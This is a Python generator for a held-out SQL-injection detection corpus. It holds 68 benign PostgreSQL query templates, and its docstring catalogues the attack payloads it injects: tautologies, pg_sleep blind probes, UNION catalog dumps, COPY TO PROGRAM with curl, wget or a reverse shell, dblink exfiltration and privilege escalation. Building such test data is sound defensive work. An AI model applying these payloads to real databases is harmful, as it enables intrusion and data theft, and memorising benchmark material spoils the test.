#!/usr/bin/env python3
"""Generator for the eleventh held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_eleventh.py [OUTPUT]      # default: eleventh.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the same bookkeeping as make_ninth.py and
make_tenth.py (corpus_kit.py).  Written for generalization, so everything is
new for this file:

* 68 application templates (`t11_*`) on tables that none of the earlier
  corpora use (a seed bank, carillon bells, bus depots, vineyards, a hospice
  volunteer rota, archery ranges, patent filings, pipe organs, mountain huts,
  lighthouses, sheep shearing, falconry, stained glass, canal locks, tea
  estates, a mushroom farm, radiosondes, bookbinding, clock repair, circus
  rigging, alpacas, allotments, submarine cables, a toll bridge, rowing, map
  sheets, a foundry, geocaching, a planetarium, quarry blasting, an ice rink,
  bird ringing) and query shapes the earlier templates lack: LATERAL
  subqueries, jsonb_path_exists() and `@?` with the input inside the
  jsonpath, to_tsquery / websearch_to_tsquery, range containment (`<@
  numrange`, `<@ tstzrange`, `daterange &&`), an array slice and a
  TABLESAMPLE percentage from input, INSERT ... SELECT, two MERGEs, UPDATE
  ... FROM, DELETE ... USING, window frames with the input as the offset
  (`ROWS n PRECEDING`, `RANGE interval '...' PRECEDING`), DISTINCT ON, a
  VALUES list joined to a table, LIKE ... ESCAPE, regexp_replace() and `~*`
  with the pattern from input, format(), a to_char() picture from input,
  interval arithmetic, a column list and ORDER BY column/direction from
  input, LIMIT/OFFSET from input, composite-field access, box `&&`,
  set_config(), a quoted and a bare identifier from input;
* attack payloads written the way testers type them, after the PostgreSQL
  parts of PayloadsAllTheThings, HackTricks, PortSwigger's cheat sheet and
  labs, the OWASP testing guide and WAF-bypass write-ups, not sqlmap's
  templates: tautologies (`' OR '1'='1`, `' or ''='`, ...), UNION column
  counting and catalog dumps, stacked statements (ALTER SYSTEM, set_config,
  CREATE USER ... SUPERUSER, GRANT pg_read_server_files, ...), PortSwigger's
  blind shapes (`' AND (SELECT 'a' FROM users WHERE ...)='a`, `'; SELECT
  CASE WHEN (...) THEN pg_sleep(10) ELSE pg_sleep(0) END FROM users--`,
  `'||pg_sleep(10)--`), CAST(... AS int), `::numeric`, `::regclass` and
  xmlparse leaks, query_to_xml / database_to_xml / schema_to_xml dumps,
  pg_ls_dir, pg_read_file, pg_read_binary_file, lo_import, lo_from_bytea +
  lo_export, COPY ... TO/FROM PROGRAM (nslookup, curl, wget, a reverse
  shell), dblink exfiltration, CREATE FUNCTION ... LANGUAGE C (libc system),
  plpython3u and plperlu, DO blocks, `$$`/`$tag$` strings, E'' hex/octal/
  unicode escapes, U&'' strings and U&"" names, chr() concatenation,
  conditional pg_sleep / pg_sleep_for / pg_sleep_until and generate_series
  heavy queries.  The sqlmap_* families are the same techniques written by
  hand: character-by-character inference with SUBSTRING/ascii/length/LIKE,
  true/false pairs, conditional errors, marker-delimited CAST errors with
  OFFSET enumeration, manual ORDER BY / NULL counting, inline subqueries,
  stacked sleep probes and a few takeover steps; about 5 % of the attacks are
  vectors testers spray at every database (MySQL SLEEP/IF/extractvalue, SQL
  Server WAITFOR/CONVERT, Oracle DBMS_LOCK, the SLEEP polyglot).  Obfuscation
  rows reshape payloads outside literals: random and alternating case, tabs,
  newlines, carriage returns and form feeds, `/**/`-style and nested
  comments (sometimes splitting a keyword, `SE/**/LECT`, which PostgreSQL
  does not accept), parenthesis-only spacing.  53 rows are second-order
  style (variant `second_order:...`): the payload is a display name stored at
  sign-up and reused by the phone-number form;
* benign rows from new input pools, new complex generators (`cx11_*`: output
  of Django, SQLAlchemy, Hibernate 6, Rails, Sequelize, Prisma, TypeORM, Ent,
  SQLBoiler, Bun, Kysely, Objection, Tortoise, Pony, Slick, SeaORM, EF Core,
  Hasura, PostgREST, GORM, Eloquent, Ecto, jOOQ, Diesel and Doctrine; psql's
  `\\d` describe queries and Npgsql's type loading; postgres_exporter, pgwatch
  and pg_stat_statements queries; pg_dump's preamble and table sections;
  Liquibase, Flyway, golang-migrate, dbmate, Alembic, Ecto, graphile-migrate
  and Rails migrations; CTE/window reports, COPY headers, transactions,
  PL/pgSQL bodies) and regression-test-style statements (`regress11:<file>.sql`).

Labelling: a filled template is an attack only when its token skeleton (the
lexer in corpus_kit.py: literals collapsed to their kind, everything else
kept) is not one of the skeletons of benign fills of the same template, i.e.
the input stopped being the single token its slot expects.  Comment-truncation
rows must in addition comment out template text that carries meaning.  Attack
strings escaped correctly for their slot are benign (`escaped_attack_string`).
Rows whose text occurs in one of the earlier corpora are skipped.

Checked once against PostgreSQL 15.18's raw parser (throwaway cluster, each
statement sent as `SELECT 1/0;` + statement in one simple query, so nothing
runs): every benign row parses; 1,164 of the 1,316 attacks parse and 152 do
not (66 end in an unterminated `/*`, a MySQL habit; 31 close a FROM subquery
or VALUES list that then has no alias; 28 are foreign-dialect vectors, 12 of
them for MySQL's 0x7e hex literal; the other 27 are breakouts that do not fit
their slot: a condition after a closed VALUES row or CTE, UNION after LIMIT,
a spliced condition before ESCAPE, a window frame closed early, a split
keyword).  There is no `parses` field, as in the seventh to tenth
corpora.
"""
import os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (ATTACK_TARGET, DOLLAR_TAG, INPUT_TARGET, OBF_FAMILIES, SlotCorpus, backslash_quotes, by_template, carries_meaning,  # noqa: E402
                        double_quotes, hand_payload, lex, load_earlier, open_brackets, opts, opts_safe, q, quoted_end, rdate, registry,
                        regress_list, render, rts as ts, rword, slot_split, strip_andor)
import corpus_kit  # noqa: E402
from functools import partial  # noqa: E402

SEED = 11110111
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth")

# ---------------------------------------------------------------- application templates
# slot types: q '...', e E'...', d $txt$...$txt$, qi "...", n number, list numbers,
# col (column name, expression or column list from input), dir (ASC/DESC), ident (bare identifier).
# A third element lists options: "typed" (the literal is read as a date, time,
# interval, tsquery or to_char picture: benign fills are values of that shape
# only), "nodq" (the literal is a jsonpath string: no double quotes or
# backslashes).  A fourth overrides what closes the slot for a breakout.
T = [
 # seed bank
 ("t11_seed_search", "SELECT accession_no, taxon, collected_on FROM seed_accessions WHERE taxon ILIKE '%' || '{a}' || '%' ESCAPE '!' AND viability_pct >= {b} ORDER BY collected_on DESC LIMIT {c} OFFSET {d}",
  {"a": ("q", ["Quercus", "Primula vulgaris", "!_hybrid"]), "b": ("n", ["70", "85.5"]), "c": ("n", ["25", "100"]), "d": ("n", ["0", "50"])}),
 ("t11_germination_merge", "MERGE INTO germination_tests g USING (VALUES ('{a}', {b}, {c})) AS v(accession_no, sown, sprouted) ON g.accession_no = v.accession_no AND g.tested_on = current_date "
  "WHEN MATCHED THEN UPDATE SET sown = v.sown, sprouted = v.sprouted WHEN NOT MATCHED THEN INSERT (accession_no, tested_on, sown, sprouted) VALUES (v.accession_no, current_date, v.sown, v.sprouted)",
  {"a": ("q", ["MSB-0041877", "KEW-2210-B"]), "b": ("n", ["50", "100"]), "c": ("n", ["43", "97"])}),
 ("t11_vault_rolling", "SELECT logged_at, temp_c, avg(temp_c) OVER (ORDER BY logged_at ROWS BETWEEN {a} PRECEDING AND CURRENT ROW) AS rolling_c FROM vault_temperature_log WHERE vault_code = '{b}' AND logged_at > now() - interval '{c}'",
  {"a": ("n", ["5", "23"]), "b": ("q", ["VAULT-2", "CRYO-A"]), "c": ("q", ["30 days", "12 hours"], "typed")}),
 # carillon bells
 ("t11_bell_recitals", "SELECT recital_id, carillonneur, starts_at FROM bell_recitals WHERE tower_code = '{a}' AND starts_at >= '{b}'::date ORDER BY {c} {d}",
  {"a": ("q", ["LEUVEN-ST-PIETER", "BOURNVILLE"]), "b": ("q", ["2025-06-01", "2024-12-20"], "typed"), "c": ("col", ["starts_at", "carillonneur", "recital_id"]), "d": ("dir", ["ASC", "DESC"])}),
 ("t11_bell_inscriptions", "SELECT bell_no, founder, cast_year FROM carillon_bells WHERE to_tsvector('simple', inscription) @@ websearch_to_tsquery('simple', '{a}') AND tower_code = '{b}'",
  {"a": ("q", ["gloria in excelsis", "Taylor Loughborough"]), "b": ("q", ["LEUVEN-ST-PIETER", "RIVERSIDE-NYC"])}),
 ("t11_bell_weights", "SELECT bell_no, note_name, weight_kg FROM carillon_bells WHERE tower_code = '{a}' AND weight_kg::numeric <@ numrange({b}, {c}, '[]') ORDER BY weight_kg DESC",
  {"a": ("q", ["BOURNVILLE", "RIVERSIDE-NYC"]), "b": ("n", ["50", "400"]), "c": ("n", ["900", "20000"])}),
 # bus depots
 ("t11_depot_bays", "SELECT DISTINCT ON (bay_no) bay_no, fleet_no, parked_at FROM depot_bay_events WHERE depot_code = '{a}' AND parked_at >= '{b}'::timestamptz ORDER BY bay_no, parked_at DESC",
  {"a": ("q", ["LEYTON", "DEPOT-STOCKWELL"]), "b": ("q", ["2025-02-03 04:30", "2024-11-18 22:00+00"], "typed")}),
 ("t11_duty_swap", "UPDATE bus_duty_rosters r SET driver_id = s.new_driver_id FROM duty_swap_requests s WHERE s.request_id = {a} AND r.duty_no = s.duty_no AND r.service_date = '{b}'::date AND s.approved_by = '{c}'",
  {"a": ("n", ["44120", "7"]), "b": ("q", ["2025-03-14", "2024-10-02"], "typed"), "c": ("q", ["ops.controller", "k.adeyemi"])}),
 ("t11_fleet_columns", "SELECT fleet_no, {a} FROM bus_fleet WHERE depot_code = '{b}' AND withdrawn_on IS NULL ORDER BY fleet_no",
  {"a": ("col", ["mileage_km", "euro_class, seats", "last_mot_on, mileage_km"]), "b": ("q", ["LEYTON", "DEPOT-STOCKWELL"])}),
 ("t11_route_headways", "SELECT stop_code, departs_at, departs_at - lag(departs_at) OVER (PARTITION BY stop_code ORDER BY departs_at) AS headway FROM timetable_departures WHERE route_no = '{a}' AND service_day = {b}",
  {"a": ("q", ["N29", "185"]), "b": ("n", ["1", "6"])}),
 # vineyards
 ("t11_vine_soil", "SELECT block_code, variety, rootstock FROM vine_blocks WHERE jsonb_path_exists(soil_profile, '$.layers[*] ? (@.texture == \"{a}\")') AND planted_year <= {b}",
  {"a": ("q", ["clay loam", "schist"], "nodq", "\")')"), "b": ("n", ["2012", "1998"])}),
 ("t11_grape_load", "INSERT INTO grape_pick_loads (block_code, picked_at, bins, brix) SELECT block_code, now(), {a}, {b} FROM vine_blocks WHERE block_code = '{c}' AND NOT retired RETURNING load_id",
  {"a": ("n", ["12", "4"]), "b": ("n", ["23.4", "21"]), "c": ("q", ["B7-PINOT", "NORTH-SLOPE-2"])}),
 ("t11_brix_trend", "SELECT sampled_on, brix, brix - lag(brix) OVER (PARTITION BY block_code ORDER BY sampled_on) AS delta FROM brix_samples WHERE block_code = ANY (string_to_array('{a}', ',')) AND sampled_on >= date '{b}'",
  {"a": ("q", ["B7-PINOT,B8-PINOT", "NORTH-SLOPE-2"]), "b": ("q", ["2025-08-01", "2024-08-15"], "typed")}),
 # hospice rota
 ("t11_hospice_shifts", "SELECT s.shift_start, s.ward, v.display_name FROM hospice_volunteer_shifts s JOIN hospice_volunteers v USING (volunteer_id) WHERE s.shift_start <@ tstzrange('{a}', '{b}') AND s.ward = '{c}' ORDER BY s.shift_start",
  {"a": ("q", ["2025-04-07 08:00", "2024-12-23 00:00"], "typed"), "b": ("q", ["2025-04-14 08:00", "2024-12-31 00:00"], "typed"), "c": ("q", ["Bluebell", "day hospice"])}),
 ("t11_rota_swap_note", "UPDATE hospice_rota_swaps SET note = $txt${a}$txt$, status = '{b}' WHERE swap_id = {c} AND status = 'requested'",
  {"a": ("d", ["covering for Maureen, back Friday", "swap agreed by phone"]), "b": ("q", ["approved", "declined"]), "c": ("n", ["2210", "38"])}),
 ("t11_claim_release", "DELETE FROM hospice_shift_claims c USING hospice_volunteer_shifts s WHERE c.shift_id = s.shift_id AND s.shift_start > now() AND c.volunteer_id = {a} AND c.claim_code = '{b}'",
  {"a": ("n", ["5120", "77"]), "b": ("q", ["CLM-7F2A", "CLM-0031"])}),
 ("t11_volunteer_phone", "UPDATE hospice_volunteers SET phone = '{a}', updated_at = now() WHERE display_name = '{b}'",
  {"a": ("q", ["07700 900123", "+44 20 7946 0018"]), "b": ("q", ["Maureen Gallagher", "Dev Raman"])}),
 # archery ranges
 ("t11_archery_rank", "SELECT archer_no, round_name, total, rank() OVER (PARTITION BY round_name ORDER BY total DESC) AS pos FROM archery_scores WHERE club_code = '{a}' AND shot_on >= '{b}' AND bow_style = '{c}'",
  {"a": ("q", ["ROYAL-TOX", "BOWMEN-OF-ARDEN"]), "b": ("q", ["2025-05-01", "2024-09-07"], "typed"), "c": ("q", ["recurve", "longbow"])}),
 ("t11_lane_lateral", "SELECT l.lane_no, e.shot_at, e.points FROM archery_lanes l CROSS JOIN LATERAL (SELECT shot_at, points FROM archery_ends x WHERE x.lane_no = l.lane_no AND x.archer_no = {a} ORDER BY shot_at DESC LIMIT {b}) AS e WHERE l.range_code = '{c}'",
  {"a": ("n", ["3110", "45"]), "b": ("n", ["6", "12"]), "c": ("q", ["FIELD-A", "INDOOR-18M"])}),
 ("t11_arrow_sets", "SELECT set_id, spine, fletching FROM arrow_sets WHERE owner_no = {a} AND spine IN ({b}) ORDER BY set_id",
  {"a": ("n", ["3110", "902"]), "b": ("list", ["500, 600", "340", "400, 500, 600"])}),
 # patent filings
 ("t11_patent_fts", "SELECT application_no, title, ts_rank(abstract_tsv, q) AS score FROM patent_applications, to_tsquery('english', '{a}') AS q WHERE abstract_tsv @@ q AND filed_on >= '{b}' ORDER BY score DESC LIMIT 25",
  {"a": ("q", ["battery & anode", "turbin:*"], "typed"), "b": ("q", ["2019-01-01", "2023-06-30"], "typed")}),
 ("t11_claim_redact", "SELECT claim_no, regexp_replace(claim_text, '{a}', '[redacted]', 'gi') FROM patent_claims WHERE application_no = '{b}' ORDER BY claim_no",
  {"a": ("q", ["acme\\s+corp", "prototype [0-9]+"]), "b": ("q", ["GB2404417.3", "EP4120987"])}),
 ("t11_renewal_fmt", "SELECT application_no, to_char(fee_due_on, '{a}') AS due, format('%s (%s)', title, '{b}') AS label FROM patent_renewals WHERE fee_due_on < current_date + {c}",
  {"a": ("q", ["DD Mon YYYY", "YYYY-MM-DD"], "typed"), "b": ("q", ["renewal", "year 5 fee"]), "c": ("n", ["30", "90"])}),
 ("t11_prior_art", "INSERT INTO prior_art_citations (application_no, cited_doc, relevance, cited_by) VALUES ('{a}', '{b}', '{c}', current_user) ON CONFLICT DO NOTHING",
  {"a": ("q", ["GB2404417.3", "US18/220931"]), "b": ("q", ["US 9,123,456 B2", "WO2019/004411"]), "c": ("q", ["X", "Y"])}),
 ("t11_inventor_country", "SELECT application_no, title FROM patent_applications WHERE bibliographic @? '$.inventors[*] ? (@.country == \"{a}\")' AND status = '{b}'",
  {"a": ("q", ["GB", "DE"], "nodq", "\")'"), "b": ("q", ["pending", "granted"])}),
 # pipe organs
 ("t11_organ_stops", "SELECT division, stop_name, pitch_ft FROM organ_stops WHERE organ_id = {a} AND stop_name ~* '{b}' ORDER BY division, pitch_ft DESC",
  {"a": ("n", ["118", "7"]), "b": ("q", ["^trompette", "diapason|principal"])}),
 ("t11_tuning_slice", "SELECT visit_on, tuner, (pipes_retuned)[{a}:{b}] AS sample FROM organ_tuning_visits WHERE organ_id = {c} ORDER BY visit_on DESC",
  {"a": ("n", ["1", "10"]), "b": ("n", ["5", "40"]), "c": ("n", ["118", "7"])}),
 ("t11_pipe_sample", "SELECT pipe_id, rank_name, wind_mm FROM organ_pipes TABLESAMPLE BERNOULLI ({a}) REPEATABLE ({b}) WHERE organ_id = {c}",
  {"a": ("n", ["5", "12.5"]), "b": ("n", ["42", "7"]), "c": ("n", ["118", "7"])}),
 # mountain huts
 ("t11_hut_free_bunks", "SELECT b.bunk_id, b.room FROM hut_bunks b WHERE b.hut_code = '{a}' AND NOT EXISTS (SELECT 1 FROM hut_reservations r WHERE r.bunk_id = b.bunk_id AND r.stay && daterange('{b}', '{c}')) ORDER BY b.room LIMIT {d}",
  {"a": ("q", ["CAPANNA-MARGHERITA", "GOUTER"]), "b": ("q", ["2025-07-14", "2024-08-02"], "typed"), "c": ("q", ["2025-07-16", "2024-08-03"], "typed"), "d": ("n", ["4", "12"])}),
 ("t11_hut_merge", "MERGE INTO hut_reservations r USING (SELECT {a} AS bunk_id, '{b}'::text AS guest_ref, daterange('{c}', '{d}') AS stay) s ON r.bunk_id = s.bunk_id AND r.guest_ref = s.guest_ref "
  "WHEN MATCHED THEN UPDATE SET stay = s.stay WHEN NOT MATCHED THEN INSERT (bunk_id, guest_ref, stay) VALUES (s.bunk_id, s.guest_ref, s.stay)",
  {"a": ("n", ["207", "15"]), "b": ("q", ["ALP-99120", "SAC-4471"]), "c": ("q", ["2025-07-14", "2024-08-02"], "typed"), "d": ("q", ["2025-07-16", "2024-08-04"], "typed")}),
 ("t11_hut_supplies", "UPDATE hut_supplies SET stock = stock - {a}, last_by = '{b}' WHERE hut_code = '{c}' AND item = '{d}' RETURNING stock",
  {"a": ("n", ["2", "24"]), "b": ("q", ["warden", "heli-drop"]), "c": ("q", ["GOUTER", "KNUBEL"]), "d": ("q", ["gas canister", "rösti mix"])}),
 ("t11_hut_weather", "SELECT observed_at, wind_kmh, snow_cm FROM hut_weather WHERE hut_code = '{a}' AND observed_at >= date_trunc('day', now()) - make_interval(days => {b}) ORDER BY observed_at",
  {"a": ("q", ["KNUBEL", "CAPANNA-MARGHERITA"]), "b": ("n", ["3", "14"])}),
 ("t11_stay_extend", "UPDATE hut_reservations SET stay = daterange(lower(stay), upper(stay) + {a}) WHERE guest_ref = '{b}' AND upper(stay) > current_date RETURNING stay",
  {"a": ("n", ["1", "3"]), "b": ("q", ["ALP-99120", "SAC-4471"])}),
 # lighthouses
 ("t11_lamp_log", "SELECT logged_at, lamp_state, keeper FROM lighthouse_lamp_logs WHERE light_code = '{a}' AND logged_at >= now() - '{b}'::interval ORDER BY logged_at DESC",
  {"a": ("q", ["FASTNET", "BISHOP-ROCK"]), "b": ("q", ["48 hours", "7 days"], "typed")}),
 ("t11_light_character", "SELECT light_code, light_character, range_nm FROM lighthouse_lights WHERE light_character LIKE '{a}' ESCAPE '\\' AND range_nm >= {b} ORDER BY range_nm DESC",
  {"a": ("q", ["Fl(2) W 20s%", "Iso\\_%"]), "b": ("n", ["18", "25"])}),
 # sheep shearing
 ("t11_shearing_tally", "SELECT shearer_name, sum(sheep_shorn) AS shorn FROM shearing_tallies WHERE shed_code = '{a}' AND run_date = '{b}' GROUP BY shearer_name HAVING sum(sheep_shorn) > {c} ORDER BY 2 DESC",
  {"a": ("q", ["GLENARY-3", "MOUNT-NICHOLAS"]), "b": ("q", ["2025-01-21", "2024-11-30"], "typed"), "c": ("n", ["150", "220"])}),
 ("t11_wool_bales", "SELECT bale_no, micron, yield_pct FROM wool_bales WHERE clip_year = {a} AND micron <= {b} AND grade = '{c}'",
  {"a": ("n", ["2025", "2023"]), "b": ("n", ["18.5", "21"]), "c": ("q", ["AAAM", "BBB"])}),
 # falconry
 ("t11_raptor_weights", "SELECT weighed_at, grams, avg(grams) OVER (ORDER BY weighed_at RANGE BETWEEN interval '{a}' PRECEDING AND CURRENT ROW) AS trend FROM raptor_weights WHERE bird_ring = '{b}'",
  {"a": ("q", ["7 days", "36 hours"], "typed"), "b": ("q", ["IBR-HH-4471", "UK-88120F"])}),
 ("t11_hawk_flight", "INSERT INTO falconry_flights (bird_ring, flown_at, quarry, notes) VALUES ('{a}', now(), '{b}', E'{c}')",
  {"a": ("q", ["IBR-HH-4471", "UK-88120F"]), "b": ("q", ["lure only", "rabbit"]), "c": ("e", ["strong wind from the west", "stooped twice"])}),
 # stained glass
 ("t11_glass_panels", "SELECT panel_ref, church, condition FROM glass_panels WHERE (dimensions).width_mm BETWEEN {a} AND {b} AND church ILIKE '{c}'",
  {"a": ("n", ["300", "450"]), "b": ("n", ["900", "1200"]), "c": ("q", ["%minster%", "St Mary%"])}),
 # canal locks
 ("t11_lock_passage", "INSERT INTO canal_lock_passages (lock_no, boat_index, direction) VALUES ({a}, '{b}', '{c}') RETURNING passage_id, passed_at",
  {"a": ("n", ["42", "7"]), "b": ("q", ["521044", "NB-Kestrel"]), "c": ("q", ["up", "down"])}),
 ("t11_lock_queue", "SELECT w.boat_index, lq.queued_at FROM (VALUES ('{a}'), ('{b}')) AS w(boat_index) JOIN lock_queue lq USING (boat_index) WHERE lq.lock_no = {c} ORDER BY lq.queued_at",
  {"a": ("q", ["521044", "NB-Kestrel"]), "b": ("q", ["88231", "Wren"]), "c": ("n", ["42", "7"])}),
 # tea estates
 ("t11_tea_plucking", "SELECT section_code, plucked_on, kg_green_leaf FROM tea_plucking_rounds WHERE estate = '{a}' AND plucked_on >= '{b}'::date - {c} ORDER BY kg_green_leaf DESC NULLS LAST",
  {"a": ("q", ["GLENBURN", "Nuwara Eliya No. 4"]), "b": ("q", ["2025-04-30", "2024-10-15"], "typed"), "c": ("n", ["7", "28"])}),
 ("t11_tea_lots", "SELECT grade_code, count(*) FILTER (WHERE taster_score >= {a}) AS good, count(*) FROM tea_lots WHERE auction_no = '{b}' GROUP BY ROLLUP (grade_code)",
  {"a": ("n", ["7", "8.5"]), "b": ("q", ["CTC-2025-19", "KOL-44"])}),
 # mushroom farm
 ("t11_mushroom_flush", "SELECT room_no, flush_no, kg_picked FROM mushroom_flushes WHERE room_no = {a} AND spawn_strain = '{b}' ORDER BY flush_no",
  {"a": ("n", ["3", "11"]), "b": ("q", ["Sylvan A15", "oyster-grey"])}),
 ("t11_substrate_note", "UPDATE substrate_batches SET pasteurised_at = now(), notes = E'{a}' WHERE batch_code = '{b}'",
  {"a": ("e", ["held at 60 C for 8 h", "slightly wet, re-checked"]), "b": ("q", ["SB-2025-031", "SB-0912"])}),
 # radiosondes
 ("t11_sonde_levels", "SELECT pressure_hpa, temp_c, dewpoint_c FROM radiosonde_levels WHERE launch_id = (SELECT launch_id FROM radiosonde_launches WHERE station_wmo = '{a}' AND launched_at::date = '{b}' ORDER BY launched_at LIMIT 1) AND pressure_hpa >= {c}",
  {"a": ("q", ["03808", "72520"]), "b": ("q", ["2025-01-09", "2024-07-30"], "typed"), "c": ("n", ["300", "100"])}),
 # bookbinding, clock repair, circus rigging
 ("t11_bindery_jobs", "SELECT job_no, customer, format('%s x %s mm', width_mm, height_mm) AS size FROM bindery_jobs WHERE customer = '{a}' AND status IN ('{b}', 'quoted') ORDER BY due_on",
  {"a": ("q", ["Corpus Christi Library", "A. Nwosu"]), "b": ("q", ["in_press", "sewn"])}),
 ("t11_clock_repairs", "SELECT ticket_no, movement, to_char(received_at, 'DD Mon YYYY') AS received FROM clock_repairs WHERE owner_surname = '{a}' AND escapement = '{b}' ORDER BY received_at DESC",
  {"a": ("q", ["Hargreaves", "Mbeki"]), "b": ("q", ["anchor", "deadbeat"])}),
 ("t11_rigging_checks", "SELECT point_code, load_kn, checked_by FROM rigging_checks WHERE venue = '{a}' AND checked_at >= '{b}' AND load_kn > {c} ORDER BY {d}",
  {"a": ("q", ["BIG-TOP-2", "Roundhouse"]), "b": ("q", ["2025-03-01", "2024-06-12"], "typed"), "c": ("n", ["2", "4.5"]), "d": ("col", ["checked_at", "load_kn DESC", "point_code"])}),
 # alpacas, allotments
 ("t11_alpaca_fleece", "SELECT animal_name, micron, fleece_g FROM alpaca_fleeces WHERE herd = '{a}' AND shorn_year = {b} ORDER BY micron LIMIT {c} OFFSET {d}",
  {"a": ("q", ["Bramble Hill", "Suri-North"]), "b": ("n", ["2025", "2024"]), "c": ("n", ["20", "50"]), "d": ("n", ["0", "40"])}),
 ("t11_waitlist_pos", "WITH ranked AS (SELECT applicant_ref, row_number() OVER (ORDER BY applied_on) AS pos FROM allotment_waitlist WHERE site_code = '{a}') SELECT pos FROM ranked WHERE applicant_ref = '{b}'",
  {"a": ("q", ["HILLTOP", "RIVERSIDE-3"]), "b": ("q", ["AW-2023-118", "AW-0044"])}),
 ("t11_plot_transfer", "UPDATE allotment_plots p SET tenant_ref = w.applicant_ref, let_on = current_date FROM allotment_waitlist w WHERE p.plot_no = '{a}' AND w.applicant_ref = '{b}' AND p.site_code = w.site_code",
  {"a": ("q", ["14A", "7"]), "b": ("q", ["AW-2023-118", "AW-0044"])}),
 # submarine cables, toll bridge
 ("t11_cable_repeaters", "SELECT repeater_no, depth_m, gain_db FROM cable_repeaters WHERE cable_code = '{a}' AND depth_m BETWEEN {b} AND {c}",
  {"a": ("q", ["TAT-14", "2AFRICA-S3"]), "b": ("n", ["200", "1500"]), "c": ("n", ["3000", "6000"])}),
 ("t11_cable_faults", "SELECT fault_id, km_from_landing, detected_at FROM cable_faults WHERE cable_code = '{a}' AND detected_at <@ tstzrange(now() - interval '{b}', now()) ORDER BY detected_at DESC",
  {"a": ("q", ["TAT-14", "SEA-ME-WE 5"]), "b": ("q", ["90 days", "1 year"], "typed")}),
 ("t11_toll_plate", "SELECT plate, crossed_at, amount_cents FROM bridge_toll_passages WHERE plate = upper(regexp_replace('{a}', '\\s', '', 'g')) AND crossed_at::date = '{b}'",
  {"a": ("q", ["KX21 OBR", "d-ab 1234"]), "b": ("q", ["2025-02-11", "2024-12-24"], "typed")}),
 ("t11_toll_topup", "UPDATE toll_accounts SET balance_cents = balance_cents + {a} WHERE account_no = {b} AND status <> 'closed' RETURNING balance_cents",
  {"a": ("n", ["2000", "500"]), "b": ("n", ["100442", "7719"])}),
 # rowing, maps, foundry, geocaching, planetarium, quarry, ice rink, bird ringing
 ("t11_boat_outing", "INSERT INTO boat_outings (boat_name, crew_ids, out_at, river_flag) VALUES ('{a}', ARRAY[{b}], now(), '{c}') RETURNING outing_id",
  {"a": ("q", ["Isis VIII", "Lady Margaret"]), "b": ("list", ["12, 40, 41, 77", "9"]), "c": ("q", ["green", "amber"])}),
 ("t11_map_sheets", "SELECT sheet_no, title, edition FROM map_sheets WHERE series = '{a}' AND bbox && box(point({b}, {c}), point({d}, {e}))",
  {"a": ("q", ["Explorer", "Landranger"]), "b": ("n", ["-3.5", "0.1"]), "c": ("n", ["54.2", "51.4"]), "d": ("n", ["-2.9", "0.4"]), "e": ("n", ["54.6", "51.6"])}),
 ("t11_map_layer", "SELECT feature_id, label FROM map_layers.\"{a}\" WHERE sheet_no = {b}",
  {"a": ("qi", ["footpaths", "Field Boundaries 1890"]), "b": ("n", ["118", "402"])}),
 ("t11_casting_pours", "SELECT pour_id, alloy, pour_temp_c FROM casting_pours WHERE alloy = '{a}' AND poured_at >= '{b}' ORDER BY pour_temp_c DESC LIMIT {c}",
  {"a": ("q", ["LM25", "CuSn10"]), "b": ("q", ["2025-01-06", "2024-09-30"], "typed"), "c": ("n", ["10", "3"])}),
 ("t11_geocache_logs", "SELECT log_type, logged_by, logged_at FROM geocache_logs WHERE gc_code = upper('{a}') AND log_text ILIKE '%' || '{b}' || '%' ORDER BY logged_at DESC LIMIT 30",
  {"a": ("q", ["gc7x2qm", "GC1A37"]), "b": ("q", ["muggle", "TFTC"])}),
 ("t11_planetarium_seats", "SELECT seat_label FROM planetarium_seats WHERE dome_code = '{a}' AND seat_label NOT IN (SELECT seat_label FROM planetarium_tickets WHERE show_id = {b}) ORDER BY seat_label",
  {"a": ("q", ["DOME-1", "MINI"]), "b": ("n", ["9041", "12"])}),
 ("t11_blast_records", "SELECT blast_no, charge_kg, ppv_mm_s FROM blast_records WHERE bench = '{a}' AND fired_at > '{b}'::timestamptz AND ppv_mm_s >= {c}::numeric",
  {"a": ("q", ["B-240", "NORTH FACE 3"]), "b": ("q", ["2025-03-03 11:00", "2024-08-19 14:30+01"], "typed"), "c": ("n", ["5", "12.7"])}),
 ("t11_ice_resurface", "SELECT rink, resurfaced_at, driver FROM ice_resurfacing WHERE rink = '{a}' AND resurfaced_at::time > '{b}'::time ORDER BY resurfaced_at DESC LIMIT 5",
  {"a": ("q", ["MAIN", "Curling sheet B"]), "b": ("q", ["06:00", "18:30"], "typed")}),
 ("t11_ring_recoveries", "SELECT r.ring_no, r.species, rec.found_on, rec.finder FROM bird_rings r JOIN ring_recoveries rec ON rec.ring_no = r.ring_no WHERE r.ring_no = '{a}' OR (r.species = '{b}' AND rec.found_on >= '{c}')",
  {"a": ("q", ["GR49021", "NOS-7C1180"]), "b": ("q", ["Sterna paradisaea", "Hirundo rustica"]), "c": ("q", ["2024-03-01", "2023-10-10"], "typed")}),
 ("t11_staging_count", "SELECT count(*) FROM staging_imports.{a}",
  {"a": ("ident", ["ringing_batch_0412", "toll_csv_2025_02", "bale_scan_upload"])}),
 ("t11_hut_context", "SELECT set_config('app.current_hut', '{a}', true)",
  {"a": ("q", ["GOUTER", "KNUBEL"])}),
]
TPL = {t[0]: t for t in T}
TAG = "$txt$"
CLOSER = {"q": "'", "e": "'", "d": TAG, "qi": '"'}
STRING_TYPES = ("q", "e", "d", "qi")
# canonical benign values per slot type: their skeletons are the template's
# reference skeletons, together with those of the template's own values
CANON = {"q": ["x", "", "Ó Dálaigh", "two words", "2025-06-30", "75%", "can't"], "e": ["x", "", "don't", "C:\\temp", "a\tb", "one\ntwo"],
         "d": ["x", "", "it's", "\"quoted\""], "qi": ["x", "Mixed \"Case\"", "layer 2"], "n": ["1", "0", "-7", "3.25", "1000000", "0.75"],
         "list": ["1", "1, 2", "5,6,7", "8, 9, 10, 11"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))


@by_template
def slot_info(tpl, slot):
    """What a breakout needs to know about a slot: the brackets open around it
    (and the word before each), the statement's first word, the words next to
    it, and whether the template text after it carries meaning."""
